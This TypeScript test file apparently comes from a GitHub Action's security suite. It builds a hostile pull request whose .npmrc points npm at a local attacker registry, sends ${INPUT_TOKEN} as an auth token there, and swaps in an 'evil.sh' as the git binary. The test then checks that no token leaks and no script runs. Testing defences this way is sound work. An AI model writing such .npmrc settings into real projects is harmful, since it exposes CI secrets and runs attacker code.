// The Action's install of a hostile pull request (issue 15), with the real npm: the PR's `.npmrc` sends
// `${INPUT_TOKEN}` and `${GITHUB_TOKEN}` to a registry of the attacker's (the listener on 127.0.0.1),
// its lockfile resolves a package there. The install runs in a clean folder with no token in its
// environment: the listener may be asked for the tarball, but never gets a token.
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { installSide } from '../../src/action/scan-sides.js';
import { DEFAULT_INSTALL } from '../../src/action/action-inputs.js';
import { runCommand } from '../../src/vet/run-command.js';
import { attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';

describe('Action install of a pull request with its own .npmrc', () => {
  let lab: Lab;
  let checkout: string;
  before(async () => {
    lab = await attackLab();
    checkout = path.join(lab.root, 'pr');
    mkdirSync(checkout);
    const registry = `http://127.0.0.1:${lab.port}/`;
    writeFileSync(
      path.join(checkout, '.npmrc'),
      [`registry=${registry}`, `//127.0.0.1:${lab.port}/:_authToken=\${INPUT_TOKEN}`, `//127.0.0.1:${lab.port}/:always-auth=true`, `git=${path.join(lab.root, 'evil.sh')}`, 'fetch-retries=0', ''].join(
        '\n',
      ),
    );
    writeFileSync(path.join(checkout, 'package.json'), JSON.stringify({ name: 'pr', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } }));
    writeFileSync(
      path.join(checkout, 'package-lock.json'),
      JSON.stringify({
        name: 'pr',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'pr', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } },
          'node_modules/left-pad': {
            version: '1.3.0',
            resolved: `${registry}left-pad/-/left-pad-1.3.0.tgz`,
            integrity: 'sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQ1ZhQYqYEBJ4l31xc8zcyLU5ga4HIr+N3aBBsO+ywaaKtEg==',
          },
        },
      }),
    );
  });
  after(() => lab.close());

  it("no token reaches the listener, no script runs; the failed install is the action's error", async () => {
    const env = { ...lab.env, PATH: process.env.PATH ?? '', npm_config_fetch_retries: '0' };
    await assert.rejects(
      installSide({ exec: runCommand, audit: async () => ({ report: null, exitCode: 2, pathErrors: [] }), env, log: () => undefined }, checkout, DEFAULT_INSTALL),
      /install of .* lockfile failed/,
    );
    for (const c of lab.connections()) assert.deepEqual(leakedSecrets(lab, c), [], c);
    assert.deepEqual(filesUnder(lab.outside), []);
  });
});
